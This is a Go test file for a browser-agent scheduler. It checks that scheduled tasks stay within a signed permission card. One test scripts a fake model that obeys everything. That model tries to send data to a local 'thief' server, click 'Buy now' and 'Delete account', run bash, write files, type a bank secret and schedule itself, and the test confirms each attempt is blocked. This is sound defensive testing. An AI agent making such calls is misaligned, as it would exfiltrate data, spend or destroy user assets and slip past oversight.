@@ -1,0 +1,237 @@
+package app
+
+import (
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"sextant/backend/agent/llm/openaitest"
+	"sextant/shared/schedule"
+	"sextant/shared/toolspec"
+)
+
+// scheduler runs schedules in a System.
+type scheduler struct {
+	t   *testing.T
+	sys *System
+}
+
+// add saves a schedule that does not come due during the test, and signs its card. Nil signs the card of its plan.
+func (s scheduler) add(task schedule.Task, card *toolspec.Card) schedule.Schedule {
+	s.t.Helper()
+	one, err := s.sys.Schedules.Save(s.t.Context(), schedule.Schedule{
+		Name: "Every month", Task: task, When: schedule.When{EveryMinutes: 43_200},
+	})
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	plan, err := s.sys.Schedules.Plan(s.t.Context(), task)
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	if card == nil {
+		card = plan.Card
+	}
+	s.t.Logf("%s may use %+v", plan.Sentence, *card)
+	if err := s.sys.Schedules.Sign(s.t.Context(), one.ID, plan.Digest, *card); err != nil {
+		s.t.Fatal(err)
+	}
+	return one
+}
+
+// run runs a schedule and returns how it ended.
+func (s scheduler) run(one schedule.Schedule) schedule.Run {
+	s.t.Helper()
+	if _, err := s.sys.Schedules.RunNow(s.t.Context(), one.ID, false); err != nil {
+		s.t.Fatal(err)
+	}
+	for end := time.Now().Add(60 * time.Second); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
+		runs, err := s.sys.Schedules.Runs(s.t.Context(), one.ID, 1)
+		if err != nil {
+			s.t.Fatal(err)
+		}
+		if len(runs) == 1 && runs[0].Status.Ended() {
+			return runs[0]
+		}
+	}
+	s.t.Fatal("the run does not end")
+	return schedule.Run{}
+}
+
+func TestScheduledRecipeRunsWithinItsCard(t *testing.T) {
+	sys := openTest(t, OpenOptions{Serve: true})
+	s := newShopper(t, sys)
+	s.order("Fen")
+	rec := s.draft("order-lamp")
+	if err := sys.Recipes.Save(rec); err != nil {
+		t.Fatal(err)
+	}
+	schedules := scheduler{t, sys}
+	task := schedule.Task{Recipe: "order-lamp", Values: map[string]string{"postcode": "10999"}}
+	one := schedules.add(task, nil)
+	tabs := len(sys.Browser.State().Tabs)
+	run := schedules.run(one)
+	if run.Status != schedule.StatusDone || !strings.Contains(run.Text, "/thanks") {
+		t.Fatalf("%+v", run)
+	}
+	c, err := sys.Store.Conversation(t.Context(), run.Conversation)
+	if err != nil || c.Folder != "Scheduled" || c.Title != "Every month" {
+		t.Errorf("%+v, %v", c, err)
+	}
+	if now := len(sys.Browser.State().Tabs); now != tabs {
+		t.Errorf("the window has %d tabs, %d before", now, tabs)
+	}
+
+	plan, err := sys.Schedules.Plan(t.Context(), task)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, narrow := range map[string]struct {
+		change func(*toolspec.Card)
+		says   string
+	}{
+		"host": {func(c *toolspec.Card) { c.Hosts = []string{"other.example"} }, "It would use the host "},
+		"tool": {
+			func(c *toolspec.Card) { c.Tools = []string{"navigate_page", "type_text"} }, "the tool click_element",
+		},
+		"count": {func(c *toolspec.Card) { c.Acts = 3 }, "as often as the permission card allows"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			card := *plan.Card
+			narrow.change(&card)
+			schedules := scheduler{t, sys}
+			one := schedules.add(task, &card)
+			run := schedules.run(one)
+			if run.Status != schedule.StatusParked || !strings.Contains(run.Reason, narrow.says) {
+				t.Errorf("%+v", run)
+			}
+			now, err := sys.Schedules.Get(one.ID)
+			if err != nil || now.Paused != run.Reason {
+				t.Errorf("%+v, %v", now, err)
+			}
+		})
+	}
+
+	rec.Steps = rec.Steps[:len(rec.Steps)-1]
+	if err := sys.Recipes.Save(rec); err != nil {
+		t.Fatal(err)
+	}
+	if run := schedules.run(one); run.Status != schedule.StatusParked ||
+		!strings.Contains(run.Reason, "has changed since you signed") {
+		t.Errorf("%+v", run)
+	}
+}
+
+// TestScheduledPromptStaysWithinItsCard has a model that obeys everything, in every mode.
+func TestScheduledPromptStaysWithinItsCard(t *testing.T) {
+	var stolen atomic.Int64
+	thief := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { stolen.Add(1) }))
+	defer thief.Close()
+	site := newEdgeSite(t)
+	site.show(`<p>Price 12</p><button onclick="press('buy')">Buy now</button>
+		<form method="post"><input name="q" aria-label="Search"><button>Delete account</button></form>`, false)
+	host := strings.TrimPrefix(site.URL, "http://")
+	model, err := openaitest.Start()
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(model.Close)
+	for name, value := range map[string]string{
+		"OPENAI_BASE_URL": model.URL(), "OPENAI_API_KEY": "test", "DIALECTS": "openai/a=native",
+		"CONTEXT_WINDOW": "1000000", "MODEL": "openai/a", "MODE": "full",
+		"ALLOW_HOSTS": host + "," + strings.TrimPrefix(thief.URL, "http://"),
+	} {
+		t.Setenv("SEXTANT_"+name, value)
+	}
+	sys := openWith(t, testFlags(t), OpenOptions{Serve: true})
+	type call = openaitest.Call
+	navigate := call{Name: "navigate_page", Args: fmt.Sprintf(`{"url":%q}`, site.URL)}
+	card := toolspec.Card{
+		Tools: []string{"click_element", "navigate_page", "type_text"}, Hosts: []string{host}, Acts: 5,
+	}
+	for name, c := range map[string]struct {
+		second func(numbers map[string]string) call
+		status schedule.Status
+		says   string
+	}{
+		"reads the page": {
+			func(map[string]string) call { return call{Name: "get_page_content", Args: `{}`} }, schedule.StatusDone, "",
+		},
+		"another host": {
+			func(map[string]string) call {
+				return call{Name: "navigate_page", Args: fmt.Sprintf(`{"url":%q}`, thief.URL+"/?d=12")}
+			}, schedule.StatusParked, "the host " + strings.TrimPrefix(thief.URL, "http://"),
+		},
+		"a purchase": {
+			func(n map[string]string) call {
+				return call{Name: "click_element", Args: `{"annotationId":` + n["Buy now"] + `}`}
+			}, schedule.StatusParked, "what on a page seems to pay",
+		},
+		"a deletion": {
+			func(n map[string]string) call {
+				return call{Name: "click_element", Args: `{"annotationId":` + n["Delete account"] + `}`}
+			}, schedule.StatusParked, "what on a page seems to delete",
+		},
+		"a file": {
+			func(map[string]string) call { return call{Name: "write_file", Args: `{"path":"x.txt","content":"x"}`} },
+			schedule.StatusParked, "the tool write_file",
+		},
+		"a command": {
+			func(map[string]string) call { return call{Name: "bash", Args: `{"command":"touch x"}`} },
+			schedule.StatusParked, "the tool bash",
+		},
+		"a secret": {
+			func(n map[string]string) call {
+				return call{Name: "type_text", Args: `{"annotationId":` + n["Search"] + `,"text":"{{secret:bank}}"}`}
+			}, schedule.StatusDone, "", // there is no such secret, so the call fails and the model goes on
+		},
+		"a schedule of its own": {
+			func(map[string]string) call {
+				return call{Name: "schedules_add", Args: `{"name":"x","prompt":"y","every_minutes":1}`}
+			}, schedule.StatusDone, "", // the panel is not open, so there is no such tool
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			model.Answer = func(r openaitest.Request) openaitest.Answer {
+				results := 0
+				numbers := map[string]string{}
+				for _, m := range r.Messages {
+					if m.Role != "tool" {
+						continue
+					}
+					results++
+					for line := range strings.Lines(m.Content) {
+						for _, want := range []string{"Buy now", "Delete account", "Search"} {
+							if id, rest, ok := strings.Cut(strings.TrimSpace(line), "] "); ok &&
+								strings.Contains(rest, `"`+want+`"`) {
+								numbers[want] = strings.Trim(id, "[")
+							}
+						}
+					}
+				}
+				switch results {
+				case 0:
+					return openaitest.Answer{Calls: []call{navigate}}
+				case 1:
+					return openaitest.Answer{Calls: []call{c.second(numbers)}}
+				}
+				return openaitest.Answer{Text: "The price is 12."}
+			}
+			schedules := scheduler{t, sys}
+			one := schedules.add(schedule.Task{Prompt: "Open " + site.URL + " and tell me the price."}, &card)
+			run := schedules.run(one)
+			if run.Status != c.status || !strings.Contains(run.Reason, c.says) {
+				text, _ := json.Marshal(run)
+				t.Errorf("%s", text)
+			}
+			if site.wasPressed() || stolen.Load() > 0 {
+				t.Error("it had an effect")
+			}
+		})
+	}
+}
